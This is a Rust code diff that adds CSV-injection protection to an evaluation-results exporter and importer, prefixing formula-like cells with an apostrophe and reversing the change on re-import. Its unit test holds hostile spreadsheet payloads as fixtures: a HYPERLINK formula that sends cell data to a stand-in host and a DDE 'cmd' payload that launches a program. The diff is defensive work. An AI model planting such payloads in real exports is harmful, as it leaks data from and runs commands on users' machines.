@@ -39,11 +39,48 @@ pub fn from_jsonl(text: &str) -> (Vec<ItemResult>, Vec<String>) {
     (results, problems)
 }
 
+/// A plain decimal number (`-2`, `0.5`, `1e-3`): a spreadsheet reads it as a number, never as
+/// a formula, so it is written as it is.
+fn plain_number(s: &str) -> bool {
+    s.bytes()
+        .all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b))
+        && s.parse::<f64>().is_ok_and(f64::is_finite)
+}
+
+/// Whether a spreadsheet opening the file would read the cell (after any leading `'`s, see
+/// [`neutralised`]) as a formula: OWASP's CSV-injection list `=`, `+`, `-`, `@`, tab, CR, and
+/// LF (the CSV reader turns a quoted CR into LF, so both are marked for the round trip).
+fn needs_quote_mark(s: &str) -> bool {
+    let rest = s.trim_start_matches('\'');
+    rest.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && !plain_number(rest)
+}
+
+/// The cell as written to a CSV export: a cell a spreadsheet would run as a formula
+/// (`=HYPERLINK(…)`, `@SUM(…)`, a caption starting with "- ") gets a leading `'`, as OWASP
+/// advises, so it shows as the text it is. A cell that is already `'`s before such a start gets
+/// one more, so that [`unneutralised`] gives back exactly what was exported.
+pub fn neutralised(s: &str) -> std::borrow::Cow<'_, str> {
+    if needs_quote_mark(s) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
+}
+
+/// The cell as it was before [`neutralised`]: one leading `'` is dropped where it was added.
+pub fn unneutralised(s: &str) -> &str {
+    match s.strip_prefix('\'') {
+        Some(rest) if needs_quote_mark(rest) => rest,
+        _ => s,
+    }
+}
+
 fn csv_field(s: &str) -> String {
+    let s = neutralised(s);
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
     }
 }
 
@@ -113,9 +150,9 @@ pub fn to_csv(results: &[ItemResult], gamma: f64) -> String {
                 })
                 .unwrap_or_default()
         };
-        row.push(ratings("overall"));
+        row.push(csv_field(&ratings("overall")));
         for c in Criterion::ALL {
-            row.push(ratings(c.id()));
+            row.push(csv_field(&ratings(c.id())));
         }
         row.push(csv_field(r.group.as_deref().unwrap_or("")));
         row.push(if r.chosen { "1".into() } else { String::new() });
@@ -143,7 +180,7 @@ pub fn from_csv_records(records: &[(usize, Vec<String>)]) -> (Vec<ItemResult>, V
         let get = |name: &str| {
             col(name)
                 .and_then(|i| row.get(i))
-                .map(|s| s.trim())
+                .map(|s| unneutralised(s.trim()))
                 .filter(|s| !s.is_empty())
         };
         let mut bad = None;
@@ -161,7 +198,7 @@ pub fn from_csv_records(records: &[(usize, Vec<String>)]) -> (Vec<ItemResult>, V
         };
         let id = row
             .get(id_col)
-            .map(|s| s.trim().to_string())
+            .map(|s| unneutralised(s.trim()).to_string())
             .unwrap_or_default();
         let mut r = ItemResult {
             id,
@@ -301,5 +338,73 @@ mod tests {
             problems[0].starts_with("Line 7: correctness_score"),
             "{problems:?}"
         );
+    }
+
+    #[test]
+    fn csv_cells_that_would_be_formulas_are_neutralised_and_round_trip() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "@SUM(1+1)",
+            "+1+2",
+            "- a caption that starts with a dash",
+            "-1+2",
+            "\t=1+1",
+            "\r=1+1",
+            "'=already quoted",
+            "''@twice",
+            "'plain apostrophe",
+            "-2",
+            "3.5e-1",
+        ];
+        let mut results = Vec::new();
+        for (i, t) in hostile.iter().enumerate() {
+            let mut r = ItemResult {
+                id: if i == 1 {
+                    "@SUM(1+1)".into()
+                } else {
+                    format!("id{i}")
+                },
+                metric: "harmonic_eval".into(),
+                text: (*t).into(),
+                error: Some(format!("=cmd|' /C calc'!A{i}")),
+                group: Some("+g".into()),
+                ..ItemResult::default()
+            };
+            r.human.insert("overall".into(), vec![-1.0, 2.0]);
+            results.push(r);
+        }
+        let csv = to_csv(&results, 0.75);
+        let records = crate::batch::dataset::csv_records(&csv);
+        assert_eq!(records.len(), hostile.len() + 1);
+        for (_, row) in &records {
+            for cell in row {
+                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                assert!(
+                    !formula || plain_number(cell),
+                    "{cell:?} would run as a formula"
+                );
+            }
+        }
+        // Numbers stay numbers; a dash caption and a formula get the mark.
+        let text_col = csv_header().iter().position(|h| h == "text").unwrap();
+        assert_eq!(records[11].1[text_col], "-2");
+        assert_eq!(
+            records[4].1[text_col],
+            "'- a caption that starts with a dash"
+        );
+        assert_eq!(records[8].1[text_col], "''=already quoted");
+        assert_eq!(records[10].1[text_col], "'plain apostrophe");
+        // Re-import gives back exactly what was exported.
+        let (back, problems) = from_csv_records(&records);
+        assert!(problems.is_empty(), "{problems:?}");
+        assert_eq!(back.len(), results.len());
+        for (b, r) in back.iter().zip(&results) {
+            // The reader has always read a quoted CR as a line break.
+            assert_eq!(b.text, r.text.replace('\r', "\n"));
+            assert_eq!(b.id, r.id);
+            assert_eq!(b.error, r.error);
+            assert_eq!(b.group.as_deref(), Some("+g"));
+            assert_eq!(b.human["overall"], vec![-1.0, 2.0]);
+        }
     }
 }
